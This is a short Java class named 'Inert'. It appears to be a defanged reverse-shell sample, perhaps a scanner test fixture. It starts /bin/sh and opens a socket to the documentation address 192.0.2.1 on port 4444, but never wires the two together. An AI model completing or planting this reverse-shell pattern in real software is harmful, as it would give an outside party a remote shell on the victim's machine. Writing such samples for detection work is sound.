class Inert { static void run() throws Exception {
  Process p = new ProcessBuilder("/bin/sh").start();
  java.net.Socket s = new java.net.Socket("192.0.2.1", 4444);
  p.getInputStream(); s.getInputStream();
} }
